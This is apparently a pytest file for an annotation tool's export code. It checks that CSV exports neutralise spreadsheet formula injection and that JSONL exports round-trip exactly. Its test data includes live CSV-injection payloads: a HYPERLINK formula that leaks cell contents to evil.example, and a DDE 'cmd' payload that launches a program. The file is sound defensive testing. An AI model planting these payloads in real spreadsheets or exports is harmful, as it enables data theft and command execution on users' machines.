"""CSV cells a spreadsheet would run as formulas are neutralised; the JSONL export stays exact.

The attack: systems, models, benchmarks, titles, notes, quotes and annotator names that begin
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's "CSV Injection" list).
"""

from __future__ import annotations

import csv
import io

import orjson
import pytest
from click.testing import CliRunner

from annotator.cli import main
from annotator.text import spreadsheet_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]
WHO = "@evil"


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_quote(value):
    assert spreadsheet_cell(value).startswith("'")


@pytest.mark.parametrize("value", ["plain", "a=b", "", 1, -0.5, None, "1-2"])
def test_other_cells_unchanged(value):
    assert spreadsheet_cell(value) == value


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory):
    from annotator.models import Label
    from annotator.store import open_db
    from annotator.store.labels import add_labels
    from annotator.store.review import set_review
    from annotator.store.trajectories import list_trajectories
    from annotator.taxonomy import load_taxonomy

    root = tmp_path_factory.mktemp("formulas")
    runs = root / "runs.jsonl"
    runs.write_bytes(b"".join(orjson.dumps({
        "id": f"f{i}", "system": FORMULAS[i % 6], "model": FORMULAS[(i + 1) % 6], "benchmark": FORMULAS[(i + 2) % 6],
        "task": FORMULAS[(i + 3) % 6], "outcome": "failure" if i % 2 else "success",
        "messages": [{"role": "user", "content": FORMULAS[i % 6]}, {"role": "assistant", "content": "done"}],
    }) + b"\n" for i in range(6)))
    db_path = root / "f.db"
    assert CliRunner().invoke(main, ["--db", str(db_path), "import", "-q", str(runs)]).exit_code == 0
    db = open_db(db_path)
    tax = load_taxonomy()
    for i, t in enumerate(list_trajectories(db)):
        add_labels(db, [Label(trajectory_id=t.id, mode_id=m, annotator=WHO, provenance="human",
                              verdict="present" if n == i else "absent", onset_step=0 if n == i else None,
                              note=FORMULAS[n % 6] if n == i else None, quote=FORMULAS[(n + 1) % 6] if n == i else None)
                        for n, m in enumerate(tax.mode_ids)])
        set_review(db, t.id, WHO, "done")
    db.close()
    return db_path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("args", [["export", "-s", WHO, "--format", "csv"], ["export", "-s", WHO, "--format", "wide-csv"],
                                  ["report", "-s", WHO, "--bootstrap", "0", "--format", "csv"]])
def test_no_live_formula_in_csv(formula_db, args):
    result = CliRunner().invoke(main, ["--db", str(formula_db), *args])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
    assert live == []
    neutralised = [c for c in cells if c.startswith("'")]
    assert len(neutralised) >= 3, "the hostile values are in the file, quoted"
    assert "'" + WHO in cells or args[0] == "report"


def test_jsonl_export_round_trips_exactly(formula_db, tmp_path):
    first = tmp_path / "labels.jsonl"
    assert CliRunner().invoke(main, ["--db", str(formula_db), "export", "-s", WHO, "-o", str(first)]).exit_code == 0
    rows = [orjson.loads(line) for line in first.read_bytes().splitlines()]
    assert {r["source"] for r in rows} == {WHO}
    assert set(FORMULAS) & {r.get("note") for r in rows}, "values are written as they are"
    fresh = tmp_path / "fresh.db"
    imported = CliRunner().invoke(main, ["--db", str(fresh), "import", str(first)])
    assert imported.exit_code == 0, imported.output
    again = tmp_path / "again.jsonl"
    assert CliRunner().invoke(main, ["--db", str(fresh), "export", "-s", WHO, "-o", str(again)]).exit_code == 0
    key = ("trajectory_id", "source", "mode_id", "verdict", "onset_step", "quote", "note", "system", "model", "benchmark")
    assert sorted(tuple(r.get(k) for k in key) for r in rows) == sorted(
        tuple(r.get(k) for k in key) for r in map(orjson.loads, again.read_bytes().splitlines()))
